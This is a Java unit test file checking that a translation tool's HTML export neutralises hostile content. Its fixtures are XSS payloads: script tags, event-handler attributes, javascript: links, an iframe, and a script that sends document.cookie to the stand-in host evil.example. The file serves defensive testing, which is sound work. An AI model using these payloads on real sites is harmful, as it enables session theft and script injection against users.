package org.diptych.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import org.diptych.formats.ImportOptions;
import org.diptych.formats.Importer;
import org.diptych.model.Alignment;
import org.diptych.model.Bead;
import org.diptych.model.BeadStatus;
import org.diptych.model.BlockKind;
import org.diptych.model.DocumentVersion;
import org.diptych.model.FrontMatter;
import org.diptych.model.Paragraph;
import org.diptych.project.Manifest.SiteProfile;
import org.diptych.project.Project;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * HTML that Diptych writes (the bundle's side-by-side page, a translated HTML document) from hostile content:
 * {@code <script>}, event-handler attributes, {@code javascript:} links in markdown links and in raw HTML, in
 * titles, paragraphs, reviewer names and notes. Every tag of the page is one Diptych wrote or a safe one.
 */
class HostileContentExportTest {
    static final String ID = "2024-05-01-may-day";
    @TempDir
    Path tmp;

    static final String RU = """
            ---
            title: "Первомай </title><script>alert('t')</script>"
            ---

            Рабочие вышли на улицы <script>alert(1)</script> всех городов.

            Подробности [здесь](javascript:alert(document.cookie)) и <a href="javascript:alert(2)" onclick="steal()">тут</a>.

            <img src="x" onerror="alert(3)">

            <script>
            fetch('https://evil.example/?c=' + document.cookie)
            </script>

            Солидарность <b onmouseover="alert(4)">сильнее</b> страха.
            """;
    static final String EN = """
            ---
            title: "May Day <img src=x onerror=alert(5)>"
            ---

            Workers took to the streets <script>alert(1)</script> of every city.

            Details [here](javascript:alert(document.cookie)) and <a href="JaVaScRiPt:alert(2)" onclick="steal()">there</a>.

            <img src="x" onerror="alert(3)">

            <script>
            fetch('https://evil.example/?c=' + document.cookie)
            </script>

            Solidarity is <b onmouseover="alert(4)">stronger</b> than fear.
            """;

    /** Every tag in {@code html} (start and end), lower-cased names. */
    static List<String> tags(String html) {
        List<String> out = new ArrayList<>();
        Matcher m = Pattern.compile("<(/?[A-Za-z][A-Za-z0-9:-]*)([^>]*)>").matcher(html);
        while (m.find()) out.add(m.group());
        return out;
    }

    static void noActiveContent(String html) {
        for (String t : tags(html)) {
            assertThat(t).as("tag in the written page").doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<iframe")
                    .doesNotContainIgnoringCase("javascript").doesNotContainPattern("(?i)\\son[a-z]+\\s*=");
        }
        assertThat(html).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img");
    }

    @Test
    void sideBySidePageEscapesTextAndDropsLinksOfHostilePosts() throws IOException {
        Path dir = tmp.resolve("proj");
        Path ru = Files.writeString(tmp.resolve("ru.md"), RU, StandardCharsets.UTF_8);
        Path en = Files.writeString(tmp.resolve("en.md"), EN, StandardCharsets.UTF_8);
        try (Project p = Project.create(dir, "Hostile", List.of("ru", "en"))) {
            Importer.importInto(p, ID, ru, ImportOptions.DEFAULTS.withLang("ru"), false);
            Importer.importInto(p, ID, en, ImportOptions.DEFAULTS.withLang("en"), false);
            DocumentVersion r = p.loadVersion(ID, "ru").orElseThrow(), e = p.loadVersion(ID, "en").orElseThrow();
            assertThat(r.paragraphs()).hasSameSizeAs(e.paragraphs());
            List<Bead> beads = new ArrayList<>();
            for (int i = 0; i < r.paragraphs().size(); i++) {
                beads.add(new Bead(List.of(r.paragraphs().get(i).id()), List.of(e.paragraphs().get(i).id()), 0.9, BeadStatus.CONFIRMED,
                        "<script>alert('reviewer')</script>", Instant.EPOCH, i == 0 ? "\" onmouseover=\"alert('note')" : null));
            }
            p.saveAlignment(new Alignment(ID, "ru", "en", beads, Instant.EPOCH));
        }
        Path out = tmp.resolve("out");
        Fixtures.export(dir, ExportOptions.bundles(ID, out).allowingIncomplete(true));
        Map<String, byte[]> entries = new LinkedHashMap<>();
        try (ZipInputStream z = new ZipInputStream(Files.newInputStream(out.resolve(ID + ".ru-en.zip")))) {
            for (ZipEntry x; (x = z.getNextEntry()) != null; ) entries.put(x.getName(), z.readAllBytes());
        }
        String html = new String(entries.get(ID + ".ru-en/side-by-side.html"), StandardCharsets.UTF_8);
        noActiveContent(html);
        // the page's own tags only
        for (String t : tags(html)) {
            assertThat(t).matches("</?(!DOCTYPE|html|head|meta|title|style|body|h1|span|br|p|table|thead|tbody|tr|th|td|a|em)\\b.*");
        }
        // what was in the text is there, as text
        assertThat(html).contains("&lt;script&gt;alert(&#39;reviewer&#39;)&lt;/script&gt;".replace("&#39;", "'"))
                .contains("&quot; onmouseover=&quot;alert('note')")
                .contains("Рабочие вышли на улицы").contains("Details here and there.");
    }

    @Test
    void translatedHtmlDocumentCarriesNoScriptHandlerOrJavascriptLink() throws IOException {
        String source = """
                <!DOCTYPE html>
                <html lang="ru">
                <head><meta charset="utf-8"><title>Первомай</title></head>
                <body>
                <p>Рабочие вышли на <b>улицы</b>.</p>
                <p>Подробности на <a href="https://union.example.org/may">странице</a>.</p>
                <p>Солидарность сильнее страха.</p>
                </body>
                </html>
                """;
        Path dir = tmp.resolve("proj");
        try (Project p = Project.create(dir, "docs", List.of("ru", "en"))) {
            List<Paragraph> ruPs = List.of(
                    new Paragraph("p1", BlockKind.PARAGRAPH, 0, "Рабочие вышли на <b>улицы</b>.", "Рабочие вышли на улицы."),
                    new Paragraph("p2", BlockKind.PARAGRAPH, 0, "Подробности на <a href=\"https://union.example.org/may\">странице</a>.",
                            "Подробности на странице."),
                    new Paragraph("p3", BlockKind.PARAGRAPH, 0, "Солидарность сильнее страха.", "Солидарность сильнее страха."));
            Map<String, Object> fm = new LinkedHashMap<>();
            fm.put("title", "Первомай");
            p.saveVersion(ID, new DocumentVersion("ru", "statement.html", "html", "UTF-8",
                    new FrontMatter(FrontMatter.Style.NONE, "", fm), ruPs), source.getBytes(StandardCharsets.UTF_8));
            // what a translator (or a match from someone else's TM) put into the target
            List<Paragraph> enPs = List.of(
                    new Paragraph("p1", BlockKind.PARAGRAPH, 0, "Workers took to the <b onmouseover=\"alert(1)\">streets</b>"
                            + "<script>alert(2)</script>.", "Workers took to the streets."),
                    new Paragraph("p2", BlockKind.PARAGRAPH, 0, "Details on the <a href=\"java&#x09;script:alert(3)\" onclick=\"x()\">page</a>"
                            + " <img src=\"x\" onerror=\"alert(4)\"><iframe src=\"https://evil.example/\"></iframe>.", "Details on the page."),
                    new Paragraph("p3", BlockKind.PARAGRAPH, 0, "Solidarity &lt;script&gt; is <a href=\" javascript:alert(5)\">stronger</a>"
                            + " than fear.", "Solidarity <script> is stronger than fear."));
            Map<String, Object> enFm = new LinkedHashMap<>();
            enFm.put("title", "May Day");
            p.saveVersion(ID, new DocumentVersion("en", null, "html", "UTF-8", new FrontMatter(FrontMatter.Style.NONE, "", enFm), enPs), null);
            List<Bead> beads = new ArrayList<>();
            for (int i = 1; i <= 3; i++) beads.add(Bead.auto(List.of("p" + i), List.of("p" + i), 0.9));
            p.saveAlignment(new Alignment(ID, "ru", "en", beads, Instant.now()));
            for (String l : List.of("ru", "en")) {
                p.saveManifest(p.manifest().withSite(l, new SiteProfile("https://union.example.org/" + l + "/:slug.html",
                        "docs/" + l + "/:year-:month-:day-:slug.html", null)));
            }
        }
        Path out = tmp.resolve("out");
        Fixtures.export(dir, ExportOptions.posts(ID, out).allowingIncomplete(true));
        String html = Files.readString(out.resolve("docs/en/2024-05-01-may-day.html"), StandardCharsets.UTF_8);
        for (String t : tags(html)) {
            assertThat(t).as("tag in the written page").doesNotContainIgnoringCase("javascript").doesNotContainPattern("(?i)\\son[a-z]+\\s*=")
                    .doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<iframe");
        }
        assertThat(html).contains("<b>streets</b>alert(2).").contains("<a>page</a>").contains("<img src=\"x\">")
                .contains("Solidarity &lt;script> is <a>stronger</a> than fear.");
    }
}
